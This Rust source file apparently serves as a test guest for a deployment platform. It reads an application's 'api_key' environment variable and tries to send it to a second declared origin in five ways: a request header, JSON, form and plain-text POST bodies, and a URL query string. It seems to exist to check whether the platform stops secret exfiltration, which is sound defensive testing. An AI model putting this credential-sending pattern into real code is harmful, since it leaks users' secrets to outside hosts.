//! Sends a secret variable of the application to an origin that it declares besides the platform's, by every way that a request has.

use bowline_guests::prelude::*;

target!(deploy, server_url(); ELSEWHERE);

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let variables = env.variables();
    let Some((_, secret)) = variables.iter().find(|(name, _)| name == "api_key") else {
        return Ok(seen(app, "no such variable"));
    };
    let other = std::hint::black_box(ELSEWHERE).to_string();
    let json = format!(r#"{{"environmentVariables":[{{"value":"{secret}"}}]}}"#);
    let form = format!("api_key={secret}");
    let outcomes = [
        send("GET", &other, &[("x-api-key", secret)], &[]),
        post(&other, "application/json", &json),
        post(&other, "application/x-www-form-urlencoded", &form),
        post(&other, "text/plain", secret),
        get(&format!("{other}/?k={secret}")),
    ];
    let done = outcomes.iter().filter(|outcome| outcome.is_ok()).count();
    match done {
        0 => Err(Failure::Unexpected("nothing was sent".into())),
        _ => Ok(seen(app, format!("{done} sent"))),
    }
}
